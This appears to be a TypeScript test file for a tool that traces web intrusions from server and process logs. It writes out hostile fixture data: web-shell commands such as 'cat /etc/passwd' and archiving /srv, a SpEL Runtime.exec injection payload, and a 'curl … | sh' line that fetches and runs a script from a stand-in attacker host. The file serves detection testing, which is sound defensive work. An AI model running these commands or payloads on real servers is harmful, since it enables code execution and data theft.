import { describe, expect, it } from 'vitest';
import type { TraceResult } from '../../src/trace/result.ts';
import { DAY, entryIds, MINUTE, Scene, SECOND, told } from './scene.ts';

const INTRUDER = '203.0.113.140';
const SCRIPT = '/uploads/s.php';

/** An access log that names no host, as many servers write it. */
class Web extends Scene {
  request(at: number, from: string, method: string, path: string, query?: string, bytes = 300, status = 200): string {
    return this.add('web', at, 'http-request', {
      'source.ip': from,
      'http.request.method': method,
      'url.path': path,
      'url.original': query === undefined ? path : `${path}?${query}`,
      'http.response.status_code': status,
      'http.response.body.bytes': bytes,
      ...(query === undefined ? {} : { 'url.query': query }),
    });
  }

  month(): void {
    for (let day = 20; day >= 1; day -= 1)
      for (let n = 0; n < 5; n += 1) this.request(-day * DAY + n * MINUTE, `192.0.2.${day + n}`, 'GET', '/', undefined);
  }

  /** What a rule says of an upload and the script that answered then. */
  planted(at: number, answered: string): string {
    const upload = this.request(at, INTRUDER, 'POST', '/upload.php');
    const entities = { 'source.ip': INTRUDER };
    this.finding('upload-then-script', 'T1505.003', 'persistence', 1.5, [upload, answered], entities, 'web-exploit');
    return upload;
  }
}

const commanded = (commands: readonly string[]): { scene: Web; upload: string } => {
  const scene = new Web();
  scene.month();
  const uses = commands.map((c, n) => scene.request(n * SECOND, INTRUDER, 'GET', SCRIPT, `c=${c}`));
  return { scene, upload: scene.planted(0, uses[0] as string) };
};

/** Nothing shows an intrusion; what came of the upload, a log of the web server alone cannot tell. */
const isNotShown = ({ verdict, intrusion }: TraceResult): boolean =>
  verdict === 'undetermined' && intrusion === 'unanswered';

const posted = (scene: Web, times: number): string[] =>
  Array.from({ length: times }, (_, n) => scene.request(n * MINUTE, INTRUDER, 'POST', SCRIPT));

const verdictOf = async (scene: Web): Promise<[string, TraceResult]> => {
  const result = await scene.run();
  return [result.verdict, result];
};

describe('a planted script that is used', () => {
  it('shows an intrusion by its commands, in a log without a host, and the upload of the same second is the entry', async () => {
    const { scene, upload } = commanded(['id', 'uname+-a', 'cat+/etc/passwd']);
    const [verdict, result] = await verdictOf(scene);
    expect(['probable', 'determined'], told(result)).toContain(verdict);
    expect(entryIds(result)).toContain(upload);
    expect(result.hypotheses[0]?.vector).toBe('web-exploit');
    expect(result.anchor?.summary.en).toContain('run commands on the server, 3 times: id · uname -a · cat /etc/passwd');
  });

  it('what was fetched from its folder left the house; what visitors fetch did not', async () => {
    const { scene } = commanded(['id', 'tar+czf+b.zip+/srv']);
    scene.request(MINUTE, INTRUDER, 'GET', '/uploads/b.zip', undefined, 20_000_261);
    scene.request(MINUTE, '192.0.2.9', 'GET', '/uploads/film.mp4', undefined, 90_000_000);
    const [, result] = await verdictOf(scene);
    expect(result.exfiltration.grade, told(result)).toBe('shown');
    expect(result.exfiltration.because.en).toContain(
      '20 MB fetched by 203.0.113.140 from beside the script: /uploads/b.zip',
    );
  });

  it('parameters that are no commands show none', async () => {
    const { scene } = commanded(['12', 'identity', 'catalogue', 'shoes']);
    const [, result] = await verdictOf(scene);
    expect(isNotShown(result), told(result)).toBe(true);
  });

  it('a script that visitors call up is the house’s own, whatever one of them sends', async () => {
    const { scene } = commanded(['id', 'uname+-a']);
    for (let n = 0; n < 6; n += 1) scene.request(-5 * DAY + n * MINUTE, `192.0.2.${n}`, 'GET', SCRIPT, 'c=12');
    const [, result] = await verdictOf(scene);
    expect(isNotShown(result), told(result)).toBe(true);
  });

  it('shows an intrusion by being new and called again and again, where the commands travel in the body', async () => {
    const scene = new Web();
    scene.month();
    scene.planted(0, posted(scene, 12)[0] as string);
    const [verdict, result] = await verdictOf(scene);
    expect(verdict, told(result)).not.toBe('none');
  });

  it('a script that had been there for weeks is not new', async () => {
    const scene = new Web();
    scene.request(-20 * DAY - MINUTE, '192.0.2.7', 'GET', SCRIPT);
    scene.month();
    scene.planted(0, posted(scene, 12)[0] as string);
    const [, result] = await verdictOf(scene);
    expect(isNotShown(result), told(result)).toBe(true);
  });

  it('an announced test is no intrusion', async () => {
    const { scene } = commanded(['id', 'uname+-a']);
    scene.findings.splice(0, 1, { ...(scene.findings[0] as (typeof scene.findings)[number]), context: ['pentest'] });
    const [verdict, result] = await verdictOf(scene);
    expect(verdict, told(result)).toBe('none');
  });
});

describe('a command in a request that was answered', () => {
  const FETCH = 'curl -s http://203.0.113.141/a.sh|sh';
  /** A rule says of the request that it held a command; the server's process log says what was started after `delay`. */
  const exploited = (command: string, delay = SECOND): { scene: Web; request: string } => {
    const scene = new Web();
    scene.month();
    const code = encodeURIComponent(`\${T(java.lang.Runtime).getRuntime().exec('${FETCH}')}`);
    const request = scene.request(0, INTRUDER, 'POST', '/render', `view=${code}`);
    const entities = { 'source.ip': INTRUDER };
    scene.finding('code-in-request', 'T1190', 'initial-access', 2, [request], entities, 'web-exploit');
    scene.add('audit', delay, 'process-start', { 'host.name': 'www1', 'process.command_line': command });
    return { scene, request };
  };

  it('was run where a program was started with what it was to fetch: an intrusion, and the request is the entry', async () => {
    const { scene, request } = exploited(`sh -c ${FETCH}`);
    const [verdict, result] = await verdictOf(scene);
    expect(['probable', 'determined'], told(result)).toContain(verdict);
    expect(entryIds(result)).toContain(request);
    expect(result.anchor?.summary.en).toBe(`the command in the request of ${INTRUDER} was run on www1: sh -c ${FETCH}`);
  });

  it('was not, where the server started something else, or much later', async () => {
    for (const { scene } of [exploited('curl -s http://192.0.2.1/update'), exploited(`sh -c ${FETCH}`, 20 * MINUTE)]) {
      const [, result] = await verdictOf(scene);
      expect(isNotShown(result), told(result)).toBe(true);
    }
  });

  it('is read without fail where it is no valid encoding', async () => {
    const { scene } = exploited(`sh -c ${FETCH}`);
    for (const event of scene.events)
      if (event.fields['url.path'] === '/render') event.fields['url.original'] = '/render?view=%E0%A4%A%25252525';
    const [, result] = await verdictOf(scene);
    expect(isNotShown(result), told(result)).toBe(true);
  });
});
